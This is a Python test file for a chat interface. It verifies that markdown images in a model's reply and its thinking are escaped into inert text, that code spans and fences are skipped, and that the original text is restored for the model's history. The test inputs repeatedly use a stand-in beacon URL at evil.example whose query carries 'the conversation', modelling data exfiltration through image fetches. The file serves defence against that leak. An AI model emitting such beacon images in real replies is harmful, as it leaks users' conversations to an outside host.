"""A reply's markdown images are shown as text on the page, never as images to fetch; the
model gets its own words back. (The browser's side, the Content-Security-Policy, is checked
in tests/test_browser.py.)"""

from __future__ import annotations

import pytest

from app.page.ui import STATS_PREFIX, Reply, history_to_messages, images_back, inert_images
from workers.protocol import ChatMessage

BEACON = "https://evil.example/beacon?d=the+conversation"


@pytest.mark.parametrize("markdown, shown", [
    (f"Done. ![logo]({BEACON})", f"Done. !\\[logo]({BEACON})"),
    (f'![a]({BEACON} "title") and ![b](<{BEACON}>)', f'!\\[a]({BEACON} "title") and !\\[b](<{BEACON}>)'),
    (f"![a [nested] alt]({BEACON})", f"!\\[a [nested] alt]({BEACON})"),
    (f"![ref][r]\n\n[r]: {BEACON}", f"!\\[ref][r]\n\n[r]: {BEACON}"),  # reference-style
    (f"[![badge]({BEACON})](https://example.com)", f"[!\\[badge]({BEACON})](https://example.com)"),
    ("Hello![world] and x![y](z)", "Hello!\\[world] and x!\\[y](z)"),  # looks the same on the page
    ("No images here: [a link](https://example.com), 3! [note]", "No images here: [a link](https://example.com), 3! [note]"),
])
def test_markdown_images_are_escaped_so_they_render_as_their_text(markdown, shown):
    assert inert_images(markdown) == shown


@pytest.mark.parametrize("markdown", [
    "Markdown images look like `![alt](src)`.",
    "Two ticks: ``a ` ![alt](src) ``",
    "```markdown\n![alt](src)\n```",
    "~~~\n![alt](src)\n~~~",
    "1. In a list:\n\n    ```md\n    ![alt](src)\n    ```",
    "```\n![alt](src) and a fence not closed yet, while the reply streams",
])
def test_code_is_left_as_it_is(markdown):
    assert inert_images(markdown) == markdown


@pytest.mark.parametrize("markdown, shown", [
    ("```x```\n![i](u)", "```x```\n!\\[i](u)"),  # an inline span at a line's start, not a fence
    ("\\`![i](u)`", "\\`!\\[i](u)`"),  # an escaped backtick opens no code
    ("a `tick\n\n![i](u) `", "a `tick\n\n!\\[i](u) `"),  # a code span ends with its paragraph
    ("``x`![i](u)`", "``x`![i](u)`"),  # two ticks never closed; the single one is a span
    ("```\ncode\n```\n![i](u)", "```\ncode\n```\n!\\[i](u)"),  # after the block
])
def test_only_real_code_is_skipped(markdown, shown):
    assert inert_images(markdown) == shown


def test_unmatched_runs_of_backticks_open_no_code():
    text = "".join("`" * k + "a" for k in range(1, 250)) + "![i](u)"  # ~31,000 characters
    assert inert_images(text).endswith("!\\[i](u)")


def test_the_reply_and_its_thinking_are_shown_inert_and_the_model_gets_its_words_back():
    reply = Reply("en")
    said = f"<think>Maybe ![t]({BEACON}).</think>Here: ![x]({BEACON})"
    reply.add(said)
    reply.close(f"{STATS_PREFIX}0.10 s to first token</sub>")
    thinking, answer = reply.messages()
    assert thinking["content"] == f"Maybe !\\[t]({BEACON})."
    assert answer["content"].startswith(f"Here: !\\[x]({BEACON})")
    history = [{"role": "user", "content": "Hi"}, thinking, answer]
    assert history_to_messages("", history, "And?") == [
        ChatMessage("user", "Hi"), ChatMessage("assistant", f"Here: ![x]({BEACON})"), ChatMessage("user", "And?")]


@pytest.mark.parametrize("markdown", [
    f"![x]({BEACON})", "`![alt](src)` then ![a](b)", "```\n![alt](src)\n```\n![a](b)", "plain text",
])
def test_images_back_undoes_inert_images(markdown):
    assert images_back(inert_images(markdown)) == markdown
